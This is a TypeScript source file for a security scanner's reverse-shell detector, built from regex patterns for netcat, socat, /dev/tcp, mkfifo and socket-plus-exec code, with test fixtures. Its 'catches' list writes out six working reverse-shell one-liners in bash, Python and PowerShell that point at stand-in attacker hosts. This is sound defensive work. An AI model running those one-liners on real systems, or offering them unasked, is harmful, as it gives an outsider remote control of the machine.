import type { Detector, Hit, Scene } from '../../detector.ts'
import {
  cursorOf,
  either,
  far,
  inOrder,
  LINE,
  near,
  type Search,
  startingWith,
} from '../../search.ts'
import { isDocument } from '../surroundings.ts'

const SHELL_WORD = /\b(?:ba|z|k|da)?sh\b/gi
const WIRE = /\b(?:nc|ncat|netcat|telnet|openssl|socat)\b/gi
/** One command of a line. */
const COMMAND = '\n;|&'

/** Forms that nothing else has, each with how sure it is. */
const FORMS: readonly (readonly [form: Search, confidence: number])[] = [
  // bash -i >& /dev/tcp/h/p 0>&1, exec 5<>/dev/tcp/h/p
  [
    either(
      inOrder(
        /\b(?:ba|z|k|da)?sh\s{1,3}-i\b/gi,
        far(40, LINE, /\/dev\/(?:tcp|udp)\/[^\s/]{1,120}\/[\w${}]{1,40}/gi),
      ),
      /(?:[0-9]{1,3}<>\s{0,3}|>&\s{0,3})\/dev\/(?:tcp|udp)\/[^\s/]{1,120}\/[\w${}]{1,40}/gi,
    ),
    0.95,
  ],
  [
    inOrder(/\/dev\/(?:tcp|udp)\/[^\s/]{1,120}\/[\w${}]/gi, far(99, LINE, /[0-9]?[<>]&\s?[0-9]/g)),
    0.95,
  ],
  [/\b(?:ba|z|k|da)?sh\s{1,3}-i\s{1,3}[0-9]?[<>]&\s?[0-9%]/gi, 0.92],
  // nc -e /bin/sh, ncat --exec cmd.exe
  [
    inOrder(
      /\b(?:nc|ncat|netcat|nc\.traditional)(?:\.exe)?\s/gi,
      near(
        120,
        COMMAND,
        /-{1,2}(?:[a-z]{0,6}[ec]|exec|sh-exec)[\s=]{1,3}["']?(?:\/?(?:usr\/|system\/)?s?bin\/)?(?:(?:ba|z|k|da|a)?sh\b|cmd\b|powershell\b)/gi,
      ),
    ),
    0.95,
  ],
  // … | /bin/sh -i 2>&1 | nc h p
  [
    inOrder(
      /\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b/gi,
      far(40, '|\n', /\|\s{0,3}(?:nc|ncat|netcat|telnet|openssl|socat)\s/gi),
    ),
    0.95,
  ],
  // telnet h p | /bin/sh
  [
    inOrder(
      startingWith(
        /\b(?:telnet|nc|ncat|netcat)\s/gi,
        /(?:telnet|nc|ncat|netcat)\s{1,3}[\w.:$-]{3,120}\s{1,3}[0-9$]/iy,
      ),
      far(132, '\n|', /\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b/gi),
    ),
    0.92,
  ],
  // mkfifo /tmp/f; cat /tmp/f | sh | nc h p > /tmp/f
  [
    inOrder(
      /\bmk(?:fifo|nod)\s[^\n]/gi,
      far(119, LINE, /[\n;&]/g),
      far(
        200,
        LINE,
        either(
          inOrder(SHELL_WORD, far(200, LINE, WIRE)),
          inOrder(WIRE, far(200, LINE, SHELL_WORD)),
        ),
      ),
    ),
    0.92,
  ],
  // socat exec:/bin/sh
  [
    inOrder(
      /\bsocat\s/gi,
      near(
        200,
        LINE,
        /(?:exec|system):["']?(?:[^\n,"' ]{0,40}\/)?(?:(?:ba|z|k|da)?sh\b|cmd\b|powershell\b|\$\w{0,12}SHELL)/gi,
      ),
    ),
    0.92,
  ],
  [/\bsocket\s{1,3}-[a-z]{0,4}p[a-z]{0,4}\s{1,3}["']?\/bin\/(?:ba|z)?sh\b/gi, 0.92],
  // awk "/inet/tcp/0/h/p"
  [
    inOrder(
      /["']\/inet6?\/(?:tcp|udp)\/[^"'\n]{3}/gi,
      far(157, '"\'\n', /["']/g),
      near(300, '', /\|&|getline/gi),
    ),
    0.92,
  ],
  [inOrder(/\bmsfvenom\b/gi, far(160, LINE, /\bLHOST\s?=/gi)), 0.92],
]

/** The cheap question before each form is tried. */
const ANY_FORM =
  /\b(?:ba|z|k|da|a)?sh\b|\bcmd\b|powershell|SHELL|\/dev\/(?:tcp|udp)\/|\/inet6?\/|\bLHOST\b/i

/** Words by which a program opens a connection, gets at a shell and joins the two, in any language. */
const CONNECTS =
  /\bsocket\b|TCPSocket|TCPServer|fsockopen|\bnet\.(?:connect|Socket|Dial|createConnection|createServer)|["']net["']\)\s{0,3}\.(?:connect|create)|TcpStream|TcpClient|TCPClient|inet_aton|\bSocket\.connect|new (?:java\.net\.)?Socket\(|s_client|syscall\.Socket|IO::Socket|sockaddr_in/
const SHELL =
  /\/bin\/(?:ba|z|k|da|a)?sh\b|\bcmd(?:\.exe)\b|\bpowershell(?:\.exe)?\b|["'](?:ba)?sh["']|\bcmd["']|\biex\b|Invoke-Expression/i
const JOINS =
  /\bexec|\bspawn|popen|\bsystem\b|dup2|ProcessBuilder|Process\.start|Process\.Start|subprocess|shell_exec|proc_open|passthru|Runtime\.getRuntime|open\(STD|Command::new|exec\.Command|\biex\b|Invoke-Expression|from_raw_fd|<&3|Execve|ForkExec|os\.execute/
/** Reads a line from the wire and runs it. */
const OBEYS = inOrder(
  /(?:gets|receive|recv|readline|getline|Read)\b/gi,
  far(80, LINE, /(?:popen|exec|system|iex|shell_exec|Invoke-Expression)\b/gi),
)
const SPAN = 700

/** The offsets of a program that is all three within one span; null if there is none. */
function programIn(text: string, from: number, to: number): Hit | null {
  const window = text.slice(from, to)
  const at = window.search(CONNECTS)
  if (at === -1) return null
  const around = window.slice(Math.max(0, at - SPAN), at + SPAN)
  if (!JOINS.test(around)) return null
  const hasShell = SHELL.test(around)
  if (!hasShell && cursorOf(OBEYS, around)(0) === null) return null
  return { start: from + at, end: Math.min(to, from + at + SPAN), confidence: 0.9 }
}

function find(text: string, from: number, to: number, scene: Scene): readonly Hit[] {
  const hits: Hit[] = []
  const window = from === 0 && to === text.length ? text : text.slice(from, to)
  for (const [form, confidence] of ANY_FORM.test(window) ? FORMS : []) {
    const next = cursorOf(form, window)
    for (let match = next(0); match !== null; ) {
      const end = match.index + match[0].length
      hits.push({ start: from + match.index, end: from + end, confidence })
      if (hits.length >= 16) return hits
      match = next(end)
    }
  }
  if (hits.length > 0) return hits
  const program = programIn(text, from, to)
  if (program === null) return hits
  // A whole source file may open sockets and run programs without joining them.
  const isFile = text.length > 1_500 && isDocument(text)
  return [{ ...program, confidence: isFile ? 0.5 : scene.kind === 'code' ? 0.75 : 0.9 }]
}

export const reverseShell: Detector = {
  id: 'reverse-shell',
  category: 'command_injection',
  severity: 'critical',
  confidence: 0.95,
  summary: 'a shell whose input and output are joined to a network connection',
  needs: [
    '/dev/tcp/',
    '/dev/udp/',
    'sh -i',
    'nc -',
    ' -e /',
    ' -e sh',
    ' -e bash',
    ' -e cmd',
    ' -e powershell',
    ' -c /bin/',
    ' -c bash',
    ' -c sh',
    '-exec ',
    'nc.exe',
    'ncat',
    'netcat',
    'nc.traditional',
    'telnet ',
    'mkfifo',
    'mknod',
    'socat',
    'socket',
    '/inet/',
    '/inet6/',
    'msfvenom',
    'sh|nc',
    'sh | nc',
    '2>&1|nc',
    '2>&1 | nc',
    'fsockopen',
    'net.dial',
    'net.connect',
    '"net"',
    "'net'",
    'tcpstream',
    'tcpclient',
    'inet_aton',
    's_client',
    'sockaddr',
  ],
  reach: { before: 500, after: 700 },
  source: 'MITRE ATT&CK T1059, T1095; CWE-78; bash(1) REDIRECTION, ncat(1), socat(1)',
  catches: [
    { text: 'bash -i >& /dev/tcp/203.0.113.7/9001 0>&1', kind: 'shell' },
    { text: 'nc drop.example 9001 -e /bin/bash', kind: 'shell' },
    'mkfifo /tmp/q; cat /tmp/q | sh -i 2>&1 | nc 203.0.113.7 9001 > /tmp/q',
    'python3 -c \'import socket as k,os;s=k.socket();s.connect(("drop.example",9001));os.dup2(s.fileno(),0);os.execl("/bin/sh","sh")\'',
    'socat tcp:drop.example:9001 exec:/bin/sh,pty',
    '$c=New-Object Net.Sockets.TCPClient("203.0.113.7",9001);$s=$c.GetStream();while($true){iex $line}',
  ],
  ignores: [
    { text: 'nc -zv db.example 5432', kind: 'shell' },
    { text: 'timeout 1 bash -c "</dev/tcp/db.example/5432"', kind: 'shell' },
    'import socket\ns = socket.socket()\ns.connect(("db.example", 5432))',
    'socat TCP-LISTEN:80,fork TCP:web.example:80',
    'a web socket is opened and the system replies',
  ],
  find,
}
